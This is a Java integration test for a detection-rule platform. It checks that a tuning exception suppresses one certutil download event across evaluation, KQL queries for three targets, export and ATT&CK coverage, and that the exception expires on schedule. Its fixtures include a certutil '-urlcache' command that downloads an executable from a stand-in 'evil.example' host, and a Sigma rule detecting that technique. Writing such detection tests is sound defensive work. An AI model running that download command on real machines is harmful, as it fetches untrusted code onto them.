package io.detectionhub.evaluate;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;

import io.detectionhub.security.Role;
import io.detectionhub.sigma.evaluation.FieldMatch;
import io.detectionhub.sigma.exceptions.ExceptionDraft;
import io.detectionhub.sigma.kql.KqlWhereInterpreter;
import io.detectionhub.sigma.model.SigmaRule;
import io.detectionhub.sigma.parser.SigmaParser;
import io.detectionhub.testsupport.EmptyLibraryTest;
import io.detectionhub.testsupport.SignedInSession;
import io.detectionhub.testsupport.TestApi;
import io.detectionhub.testsupport.TestCredentials;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Import;
import org.springframework.web.util.HtmlUtils;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Issue 18's "Done when" for exceptions, end to end over HTTP: an exception drafted from an evaluation result
 * suppresses that event (and only it) in evaluation, in the KQL of every built-in target (checked by running the
 * queries on the event's row), in deployment and export; a too-broad one fails a must-match rule test; a rule whose
 * must-match events are all suppressed covers nothing; and on its expiry date (a settable clock) it stops applying
 * everywhere.
 */
@EmptyLibraryTest
@Import(ExceptionsAppliedEverywhereTest.Clocks.class)
public class ExceptionsAppliedEverywhereTest {

    /** The app's clock, moved by the test: exceptions expire by it. */
    static final class SettableClock extends Clock {
        private volatile Instant now = Instant.now();

        @Override
        public ZoneId getZone() {
            return ZoneOffset.UTC;
        }

        @Override
        public Clock withZone(ZoneId zone) {
            return this;
        }

        @Override
        public Instant instant() {
            return now;
        }

        void advance(Duration d) {
            now = now.plus(d);
        }

        void reset() {
            now = Instant.now();
        }
    }

    @TestConfiguration
    static class Clocks {
        @Bean
        SettableClock settableClock() {
            return new SettableClock();
        }
    }

    static final JsonMapper JSON = JsonMapper.builder().build();
    public static final String RULE_ID = "2b0c6a4e-5d0c-4c8e-9e61-3f1e0a7c9d01";
    public static final String RULE = """
            title: Certutil Download Exceptions Everywhere
            id: 2b0c6a4e-5d0c-4c8e-9e61-3f1e0a7c9d01
            status: test
            description: certutil fetching a file
            logsource: {product: windows, category: process_creation}
            detection:
                selection:
                    Image|endswith: '\\\\certutil.exe'
                    CommandLine|contains: 'urlcache'
                condition: selection
            level: high
            tags: [attack.command-and-control, attack.t1105]
            """;
    /** The build server's nightly job: the event the exception is drafted from. */
    public static final Map<String, Object> BUILD = event("certutil -urlcache -f http://updates.example/a.exe a.exe",
            "build-01.corp", "C:\\Tools\\deploy.exe", "CORP\\svc_build");
    /** Someone else's download: must still fire. */
    public static final Map<String, Object> OTHER = event("certutil -urlcache -f http://evil.example/x.exe x.exe",
            "laptop-17.corp", "C:\\Windows\\explorer.exe", "CORP\\alice");
    static final List<String> TARGETS = List.of("sentinel-asim", "defender-xdr", "azure-monitor");

    static Map<String, Object> event(String commandLine, String computer, String parent, String user) {
        Map<String, Object> e = new LinkedHashMap<>();
        e.put("Image", "C:\\Windows\\System32\\certutil.exe");
        e.put("CommandLine", commandLine);
        e.put("Computer", computer);
        e.put("ParentImage", parent);
        e.put("User", user);
        return e;
    }

    @LocalServerPort
    int port;

    @Autowired
    TestCredentials credentials;

    @Autowired
    SettableClock clock;

    TestApi editor;

    @BeforeEach
    void rule() {
        clock.reset();
        editor = new TestApi(port, credentials.bearer(Role.EDITOR));
        editor.createRule(RULE);
    }

    @AfterEach
    void purge() {
        clock.reset();
        editor.delete("/api/rules/" + RULE_ID);
        new TestApi(port, credentials.bearer(Role.ADMIN)).delete("/api/trash/" + RULE_ID);
    }

    @Test
    void anExceptionFromAnEvaluationResultSuppressesThatEventEverywhereUntilItExpires() throws Exception {
        String events = JSON.writeValueAsString(List.of(BUILD, OTHER));
        JsonNode before = evaluate("", events);
        assertThat(eventIndexes(before.get("matches"))).containsExactly(0L, 1L);
        assertThat(before.get("suppressed")).isEmpty();
        Map<String, Boolean> kqlBefore = new LinkedHashMap<>();
        for (String target : TARGETS) {
            kqlBefore.put(target, selects(target, BUILD));
            assertThat(selects(target, OTHER)).as(target).isTrue();
        }
        assertThat(kqlBefore).as("every target's query selects the build server's event before the exception")
                .containsValues(true).doesNotContainValue(false);
        String tests = "/api/rules/" + RULE_ID + "/tests";
        assertThat(post(tests, "{\"name\": \"nightly build download\", \"events\": ["
                + JSON.writeValueAsString(BUILD) + "], \"expectation\": \"match\"}").statusCode()).isEqualTo(201);
        assertThat(technique("T1105").get("ruleCount").asInt()).isEqualTo(1);

        // "Suppress matches like this" on the build server's match: drafted from the match's fields and the event.
        JsonNode match = before.get("matches").get(0);
        SigmaRule rule = new SigmaParser().parseRule(RULE);
        ExceptionDraft.Draft draft = ExceptionDraft.fromEvent(rule, BUILD, fieldMatches(match));
        LocalDate expires = LocalDate.ofInstant(clock.instant(), ZoneOffset.UTC).plusDays(2);
        HttpResponse<String> created = post("/api/rules/" + RULE_ID + "/exceptions", JSON.writeValueAsString(Map.of(
                "yaml", draft.yaml(), "title", "Nightly build fetches its tools", "reason", "the deploy job",
                "expires", expires.toString())));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        String exceptionId = json(created).get("id").asString();

        // Evaluation: the build server's event is suppressed, named by the exception; the other still fires.
        JsonNode after = evaluate("", events);
        assertThat(after.get("exceptions").asString()).isEqualTo("applied");
        assertThat(eventIndexes(after.get("matches"))).containsExactly(1L);
        JsonNode suppressed = after.get("suppressed");
        assertThat(eventIndexes(suppressed)).containsExactly(0L);
        assertThat(suppressed.get(0).get("filterId").asString()).isEqualTo(exceptionId);
        assertThat(suppressed.get(0).at("/exception/title").asString()).isEqualTo("Nightly build fetches its tools");
        assertThat(suppressed.get(0).at("/exception/url").asString())
                .isEqualTo("/api/rules/" + RULE_ID + "/exceptions/" + exceptionId);
        assertThat(suppressed.get(0).at("/exception/page").asString())
                .isEqualTo("/rules/" + RULE_ID + "/exceptions");
        assertThat(suppressed.get(0).at("/match/matchedSelections/0").asString()).isEqualTo("selection");
        JsonNode ignored = evaluate("?exceptions=ignore", events);
        assertThat(ignored.get("exceptions").asString()).isEqualTo("ignored");
        assertThat(eventIndexes(ignored.get("matches"))).containsExactly(0L, 1L);
        assertThat(ignored.get("suppressed")).isEmpty();
        JsonNode library = json(editor.send("POST", "/api/evaluate", "application/json", events, Map.of()));
        assertThat(eventIndexes(library.get("matches"))).as("the whole library runs with exceptions too")
                .containsExactly(1L);
        assertThat(eventIndexes(library.get("suppressed"))).containsExactly(0L);
        assertThat(evaluate("?exceptions=sometimes", events, 400).get("detail").asString())
                .contains("'apply'", "'ignore'");

        // KQL of every built-in target: a line naming the exception, and the query no longer selects the event.
        for (String target : TARGETS) {
            String kql = kql(target);
            assertThat(kql).as(target).contains("// exception " + exceptionId + ": Nightly build fetches its tools");
            assertThat(selects(target, BUILD)).as(target + ":\n" + kql).isFalse();
            assertThat(selects(target, OTHER)).as(target + ":\n" + kql).isTrue();
        }
        // exceptions=ignore gives the query without them ("would it fire without them?"); anything else is a 400.
        HttpResponse<String> withoutExceptions = editor.get("/api/rules/" + RULE_ID + "/kql?exceptions=ignore", "text/plain");
        assertThat(withoutExceptions.statusCode()).isEqualTo(200);
        assertThat(withoutExceptions.body()).doesNotContain("// exception").isNotEqualTo(kql("sentinel-asim"));
        assertThat(editor.get("/api/rules/" + RULE_ID + "/kql?exceptions=sometimes", "text/plain").statusCode())
                .isEqualTo(400);
        // The explanation lists it, and the rule page's KQL tabs show it.
        assertThat(json(editor.get("/api/rules/" + RULE_ID + "/kql?target=defender-xdr", "application/json"))
                .at("/explanation/warnings").toString()).contains("filter 'Nightly build fetches its tools' applied");
        assertThat(editor.get("/rules/" + RULE_ID, "text/html").body()).contains("// exception " + exceptionId);
        // Deployment and export carry the same query.
        JsonNode deployed = json(editor.get("/api/rules/" + RULE_ID + "/deploy?findings=true"));
        assertThat(deployed.toString()).contains("// exception " + exceptionId);
        assertThat(exportedKql("sentinel-asim")).contains("// exception " + exceptionId);

        // A must-match case on the suppressed event fails, saying which exception did it.
        JsonNode run = json(post(tests + "/run", "")).get(0);
        assertThat(run.get("outcome").asString()).isEqualTo("failed");
        assertThat(run.get("message").asString())
                .contains("suppressed by exception Nightly build fetches its tools");
        assertThat(eventIndexes(run.get("suppressed"))).containsExactly(0L);

        // Coverage: every must-match event of the rule is suppressed, so T1105 is no longer covered by it.
        JsonNode coverage = json(editor.get("/api/coverage"));
        assertThat(coverage.get("fullySuppressed").findValuesAsString("id")).containsExactly(RULE_ID);
        assertThat(technique("T1105").get("ruleCount").asInt()).isZero();
        String page = editor.get("/techniques/T1105", "text/html").body();
        assertThat(page).contains("Fully suppressed by tuning exceptions").contains(RULE_ID);
        assertThat(editor.get("/coverage", "text/html").body()).contains("Fully suppressed rules, not counted (1)");
        // A must-match case the exception leaves alone: the rule covers the technique again.
        assertThat(post(tests, "{\"name\": \"other download\", \"events\": [" + JSON.writeValueAsString(OTHER)
                + "], \"expectation\": \"match\"}").statusCode()).isEqualTo(201);
        assertThat(json(editor.get("/api/coverage")).get("fullySuppressed")).isEmpty();
        assertThat(technique("T1105").get("ruleCount").asInt()).isEqualTo(1);

        // On its expiry date the exception stops applying everywhere.
        clock.advance(Duration.ofDays(2));
        assertThat(json(editor.get("/api/rules/" + RULE_ID + "/exceptions/" + exceptionId)).get("expired")
                .asBoolean()).isTrue();
        JsonNode expired = evaluate("", events);
        assertThat(eventIndexes(expired.get("matches"))).containsExactly(0L, 1L);
        assertThat(expired.get("suppressed")).isEmpty();
        JsonNode libraryExpired = json(editor.send("POST", "/api/evaluate", "application/json", events, Map.of()));
        assertThat(eventIndexes(libraryExpired.get("matches"))).containsExactly(0L, 1L);
        for (String target : TARGETS) {
            assertThat(kql(target)).as(target).doesNotContain("exception");
            assertThat(selects(target, BUILD)).as(target).isTrue();
        }
        assertThat(json(post(tests + "/run", "")).findValuesAsString("outcome")).containsOnly("passed");
    }

    @Test
    void aTooBroadExceptionFailsTheMustMatchCaseAndTheRuleCoversNothing() {
        String tests = "/api/rules/" + RULE_ID + "/tests";
        assertThat(post(tests, "{\"name\": \"any download\", \"events\": [" + JSON.writeValueAsString(OTHER)
                + "], \"expectation\": \"match\"}").statusCode()).isEqualTo(201);
        assertThat(json(post(tests + "/run", "")).get(0).get("outcome").asString()).isEqualTo("passed");
        // Every certutil run: far too broad.
        HttpResponse<String> created = post("/api/rules/" + RULE_ID + "/exceptions", JSON.writeValueAsString(Map.of(
                "yaml", "selection:\n    Image|endswith: '\\\\certutil.exe'\ncondition: not selection\n",
                "title", "All certutil", "reason", "too noisy")));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);

        JsonNode run = json(post(tests + "/run", "")).get(0);
        assertThat(run.get("outcome").asString()).isEqualTo("failed");
        assertThat(run.get("message").asString()).contains("expected at least 1 match, got 0")
                .contains("event #1 suppressed by exception All certutil");
        // A case naming the events that must match says which of them the exception took.
        assertThat(post(tests, "{\"name\": \"second must fire\", \"events\": ["
                + JSON.writeValueAsString(BUILD) + ", " + JSON.writeValueAsString(OTHER)
                + "], \"expectation\": {\"kind\": \"match\", \"events\": [2]}}").statusCode()).isEqualTo(201);
        JsonNode named = null;
        for (JsonNode r : json(post(tests + "/run", ""))) {
            if (r.get("testName").asString().equals("second must fire")) {
                named = r;
            }
        }
        assertThat(named).isNotNull();
        assertThat(named.get("outcome").asString()).as(named.toString()).isEqualTo("failed");
        assertThat(named.get("message").asString()).contains("event #2 was suppressed by exception All certutil");
        assertThat(json(editor.get("/api/coverage")).get("fullySuppressed").findValuesAsString("id"))
                .containsExactly(RULE_ID);
        assertThat(technique("T1105").get("ruleCount").asInt()).isZero();
    }

    @Test
    void withoutTestCasesTheGeneratedExampleJudgesFullSuppression() {
        assertThat(technique("T1105").get("ruleCount").asInt()).isEqualTo(1);
        HttpResponse<String> narrow = post("/api/rules/" + RULE_ID + "/exceptions", JSON.writeValueAsString(Map.of(
                "yaml", "selection:\n    Computer: build-01.corp\ncondition: not selection\n",
                "title", "Build server", "reason", "deploy job")));
        assertThat(narrow.statusCode()).as(narrow.body()).isEqualTo(201);
        assertThat(json(editor.get("/api/coverage")).get("fullySuppressed"))
                .as("the generated example has no Computer: the exception leaves it alone").isEmpty();
        HttpResponse<String> broad = post("/api/rules/" + RULE_ID + "/exceptions", JSON.writeValueAsString(Map.of(
                "yaml", "selection:\n    CommandLine|contains: urlcache\ncondition: not selection\n",
                "title", "Every urlcache", "reason", "too noisy")));
        assertThat(broad.statusCode()).as(broad.body()).isEqualTo(201);
        JsonNode suppressed = json(editor.get("/api/coverage")).get("fullySuppressed");
        assertThat(suppressed.findValuesAsString("id")).containsExactly(RULE_ID);
        assertThat(suppressed.get(0).get("reason").asString()).contains("generated", "Every urlcache");
    }

    @Test
    void theEvaluatePageOffersSuppressMatchesLikeThisAndShowsWhatAnExceptionSuppressed() {
        SignedInSession session = new SignedInSession(port).signedInAs(TestCredentials.username(Role.EDITOR),
                TestCredentials.password(Role.EDITOR));
        String events = JSON.writeValueAsString(List.of(BUILD, OTHER));
        String page = evaluatePage(session, events, false);
        assertThat(count(page, "Suppress matches like this")).isEqualTo(2);
        Matcher form = SUPPRESS_FORM.matcher(page);
        assertThat(form.find()).isTrue();
        assertThat(form.group(1)).isEqualTo("/rules/" + RULE_ID + "/exceptions/new");
        String yaml = HtmlUtils.htmlUnescape(form.group(2));
        String title = HtmlUtils.htmlUnescape(form.group(3));
        assertThat(yaml).contains("rules:", RULE_ID, "certutil -urlcache -f http://updates.example/a.exe a.exe",
                "svc_build", "not selection");
        SignedInSession viewer = new SignedInSession(port).signedInAs(TestCredentials.username(Role.VIEWER),
                TestCredentials.password(Role.VIEWER));
        assertThat(evaluatePage(viewer, events, false)).as("only editors may create exceptions")
                .doesNotContain("Suppress matches like this");

        // The button's form opens the pre-filled new-exception form (no JavaScript involved): save what it drafted.
        HttpResponse<String> prefilled = session.postForm("/rules/" + RULE_ID + "/exceptions/new", Map.of(
                "yaml", yaml, "title", title, "_csrf", session.csrfTokenOf("/rules/" + RULE_ID + "/exceptions")));
        assertThat(prefilled.statusCode()).as(prefilled.body()).isEqualTo(200);
        assertThat(HtmlUtils.htmlUnescape(prefilled.body())).contains("build-01.corp");
        HttpResponse<String> created = post("/api/rules/" + RULE_ID + "/exceptions", JSON.writeValueAsString(Map.of(
                "yaml", yaml, "title", title, "reason", "the deploy job")));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);

        String after = evaluatePage(session, events, false);
        assertThat(count(after, "Suppress matches like this")).isEqualTo(1);
        assertThat(after).contains("1 match was suppressed by tuning exceptions")
                .contains("Suppressed by exception")
                .contains("href=\"/rules/" + RULE_ID + "/exceptions\"")
                .contains(HtmlUtils.htmlEscape(title));
        String without = evaluatePage(session, events, true);
        assertThat(count(without, "Suppress matches like this")).isEqualTo(2);
        assertThat(without).contains("Stored rules ran without their tuning exceptions")
                .doesNotContain("Suppressed by exception");
    }

    // ------------------------------------------------------------------------------------------------ helpers

    static final Pattern SUPPRESS_FORM = Pattern.compile("<form class=\"suppress-form\" method=\"post\"\\s+"
            + "action=\"([^\"]+)\">.*?name=\"yaml\" value=\"([^\"]*)\".*?name=\"title\" value=\"([^\"]*)\"",
            Pattern.DOTALL);

    String evaluatePage(SignedInSession session, String events, boolean ignoreExceptions) {
        Map<String, String> form = new LinkedHashMap<>();
        form.put("events", events);
        form.put("format", "auto");
        form.put("schema", "sigma");
        form.put("mode", "ids");
        form.put("ruleIds", RULE_ID);
        if (ignoreExceptions) {
            form.put("ignoreExceptions", "true");
        }
        form.put("_csrf", session.csrfTokenOf("/evaluate"));
        HttpResponse<String> r = session.postForm("/evaluate", form);
        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        return r.body();
    }

    static int count(String text, String part) {
        int n = 0;
        for (int i = text.indexOf(part); i >= 0; i = text.indexOf(part, i + 1)) {
            n++;
        }
        return n;
    }

    HttpResponse<String> post(String path, String json) {
        return editor.send("POST", path, "application/json", json, Map.of());
    }

    JsonNode evaluate(String query, String events) {
        return evaluate(query, events, 200);
    }

    JsonNode evaluate(String query, String events, int status) {
        HttpResponse<String> r = editor.send("POST", "/api/rules/" + RULE_ID + "/evaluate" + query,
                "application/json", events, Map.of());
        assertThat(r.statusCode()).as(r.body()).isEqualTo(status);
        return json(r);
    }

    static JsonNode json(HttpResponse<String> r) {
        return JSON.readTree(r.body());
    }

    static List<Long> eventIndexes(JsonNode list) {
        List<Long> out = new ArrayList<>();
        list.forEach(n -> out.add(n.get("eventIndex").asLong()));
        return out;
    }

    static List<FieldMatch> fieldMatches(JsonNode match) {
        List<FieldMatch> out = new ArrayList<>();
        for (JsonNode f : match.get("matchedFields")) {
            List<String> modifiers = new ArrayList<>();
            f.get("modifiers").forEach(m -> modifiers.add(m.asString()));
            out.add(new FieldMatch(f.get("field").asString(), f.get("value").asString(), modifiers,
                    f.get("pattern").asString()));
        }
        return out;
    }

    String kql(String target) {
        HttpResponse<String> r = editor.get("/api/rules/" + RULE_ID + "/kql?target=" + target, "text/plain");
        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        return r.body();
    }

    /**
     * Whether the target's query selects the event, given as a row under the columns the translation names (a
     * dynamic column such as Azure Monitor's EventData holds the Sigma field as a property; a DOMAIN\\name user
     * the target splits, Defender's AccountDomain and AccountName, is split), with the Sysmon routing columns Azure
     * Monitor's table choice adds.
     */
    boolean selects(String target, Map<String, Object> event) {
        JsonNode translation = json(editor.get("/api/rules/" + RULE_ID + "/kql?target=" + target,
                "application/json"));
        Map<String, String> row = new LinkedHashMap<>();
        row.put("Provider", "Microsoft-Windows-Sysmon");
        row.put("EventID", "1");
        for (JsonNode use : translation.at("/explanation/fields")) {
            String field = use.get("sigmaField").asString();
            Object value = event.get(field);
            if (value != null) {
                String text = value.toString();
                int slash = text.indexOf('\\');
                boolean split = slash > 0 && use.path("detail").asString("").startsWith("split-domain");
                use.get("columns").forEach(c -> {
                    String column = c.asString();
                    String v = split ? text.substring(slash + 1) : text;
                    row.put(column, v);
                    row.put(column + "." + field, v);
                    if (split) {
                        row.put(column.replace("Name", "Domain"), text.substring(0, slash));
                    }
                });
            }
        }
        return KqlWhereInterpreter.parse(translation.get("query").asString()).selects(row);
    }

    JsonNode technique(String id) {
        JsonNode coverage = json(editor.get("/api/coverage"));
        for (JsonNode tactic : coverage.get("tactics")) {
            for (JsonNode t : tactic.get("techniques")) {
                if (t.get("id").asString().equals(id)) {
                    return t;
                }
            }
        }
        throw new AssertionError(id + " not in the matrix");
    }

    String exportedKql(String target) throws IOException, InterruptedException {
        HttpResponse<byte[]> r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(
                        "http://localhost:" + port + "/api/export?target=" + target))
                .header("Authorization", credentials.bearer(Role.EDITOR)).GET().build(),
                HttpResponse.BodyHandlers.ofByteArray());
        assertThat(r.statusCode()).isEqualTo(200);
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(r.body()))) {
            for (ZipEntry e; (e = zip.getNextEntry()) != null; ) {
                if (e.getName().endsWith("." + target + ".kql")) {
                    return new String(zip.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        throw new AssertionError("no ." + target + ".kql in the export");
    }
}
